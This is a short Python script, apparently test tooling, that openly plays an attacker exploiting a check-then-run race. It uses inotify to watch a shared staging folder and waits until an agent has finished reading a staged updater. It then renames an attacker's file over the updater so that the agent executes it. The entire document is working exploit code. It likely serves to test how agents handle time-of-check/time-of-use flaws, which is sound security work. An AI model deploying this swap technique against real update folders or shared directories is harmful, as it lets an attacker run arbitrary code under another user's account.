# An attacker with write access to the shared staging folder (another account on the PC), as a
# process of its own: waits (inotify) until the agent has finished reading the staged updater, then
# renames a file of its own over it. A check-then-run agent starts the attacker's file.
# usage: swap-attacker.py WATCH_DIR NAME REPLACEMENT_FILE READY_FILE
import ctypes, os, struct, sys

IN_CLOSE_NOWRITE = 0x10
watch_dir, name, replacement, ready = sys.argv[1:5]
libc = ctypes.CDLL('libc.so.6', use_errno=True)
fd = libc.inotify_init()
if fd < 0 or libc.inotify_add_watch(fd, watch_dir.encode(), IN_CLOSE_NOWRITE) < 0:
    sys.exit('inotify failed: %d' % ctypes.get_errno())
open(ready, 'w').close()
swaps = 0
while swaps < 50:
    data = os.read(fd, 65536)
    offset = 0
    while offset < len(data):
        _wd, _mask, _cookie, length = struct.unpack_from('iIII', data, offset)
        event_name = data[offset + 16: offset + 16 + length].rstrip(b'\0').decode()
        offset += 16 + length
        if event_name == name:
            temp = os.path.join(watch_dir, '.swap-%d' % swaps)
            with open(replacement, 'rb') as src, open(temp, 'wb') as dst:
                dst.write(src.read())
            os.rename(temp, os.path.join(watch_dir, name))
            swaps += 1
            print('swapped', swaps, flush=True)
